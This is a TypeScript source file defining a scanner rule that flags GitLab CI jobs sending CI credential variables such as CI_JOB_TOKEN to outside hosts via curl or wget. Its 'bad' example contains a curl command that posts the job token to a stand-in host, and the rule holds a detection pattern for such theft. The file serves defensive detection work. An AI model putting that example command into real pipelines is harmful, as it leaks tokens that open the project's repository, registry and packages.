import { isCredentialName } from '../../kube/credential.ts';
import { inCalls } from '../../rule/calls.ts';
import { attack, cwe, docs, owasp } from '../../rule/references.ts';
import { defineRule } from '../../rule/rule.ts';

export const gitlabCiSuspiciousCurl = defineRule({
  id: 'gitlab-ci-suspicious-curl',
  summary: "A job sends GitLab's credentials to another server",
  why: 'The token of a job opens the repository, the registry and the packages of the project. That is what thieves are after; a server outside of GitLab has no use for it.',
  severity: 'medium',
  preset: 'strict',
  references: [
    owasp('K03:2025'),
    owasp('K02:2022'),
    attack('T1048'),
    cwe(201),
    docs('Job token', 'https://docs.gitlab.com/ci/jobs/ci_job_token/'),
  ],
  examples: {
    file: '.gitlab-ci.yml',
    bad: `
report:
  script:
  - curl --data "token=$CI_JOB_TOKEN" https://metrics.example.com/collect
#                      ^^^^^^^^^^^^^ Job "report" sends CI_JOB_TOKEN to metrics.example.com
`,
    good: `
report:
  script:
  - curl --header "JOB-TOKEN:$CI_JOB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages"
`,
  },
  check: inCalls(function* ({ name, rest, line }, { label }) {
    if (!/^(?:curl|wget)$/.test(name)) return;
    const host = rest
      .map(({ source }) => /^["']?https?:\/\/(?:[^/@"']*@)?([\w.-]+)/.exec(source)?.[1])
      .find((found) => found !== undefined);
    const secret = rest
      .flatMap(({ variables }) => variables)
      .find((variable) => /^CI_/.test(variable.name) && isCredentialName(variable.name));
    if (host === undefined || secret === undefined || /git/i.test(host) || /^(?:localhost|127\.)/.test(host)) return;
    yield { at: line, within: secret.span, message: `${label} sends ${secret.name} to ${host}` };
  }),
});
